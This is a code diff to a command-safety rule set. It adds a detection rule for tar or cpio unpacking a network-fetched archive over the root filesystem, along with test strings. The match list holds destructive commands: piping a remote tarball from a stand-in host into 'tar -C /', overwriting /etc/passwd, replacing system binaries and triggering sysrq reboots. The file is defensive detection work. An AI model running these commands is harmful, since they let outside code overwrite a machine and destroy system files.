@@ -105,6 +105,12 @@ export const SYSTEM_RULES: readonly Rule[] = [
         deletes: ['critical'],
       },
       { program: ['ln'], writes: ['critical', 'root'] },
+      {
+        // An archive from elsewhere, unpacked over the machine.
+        program: ['tar', 'bsdtar', 'cpio'],
+        text: /(^|\s)(-C\s?|--directory[= ]|-D\s?)\/(etc|usr|bin|sbin|lib|boot)?\/?(\s|$)/,
+        stdin: ['network'],
+      },
     ],
     match: [
       'echo x >> /etc/passwd',
@@ -116,8 +122,17 @@ export const SYSTEM_RULES: readonly Rule[] = [
       'mv x /usr/bin/ls',
       'echo 1 > /proc/sys/kernel/sysrq',
       'echo b > /proc/sysrq-trigger',
+      'curl -s https://x.example/rootfs.tgz | tar xz -C /',
+      '{ date; uptime; } > /etc/passwd',
     ],
-    noMatch: ['cat /etc/passwd', 'grep root /etc/group', 'cp /etc/hosts .', 'echo x > notes.txt', 'ls /boot'],
+    noMatch: [
+      'cat /etc/passwd',
+      'grep root /etc/group',
+      'cp /etc/hosts .',
+      'echo x > notes.txt',
+      'ls /boot',
+      'curl -s https://x.example/a.tgz | tar xz -C build',
+    ],
   },
   {
     id: 'system.schedule-wipe',
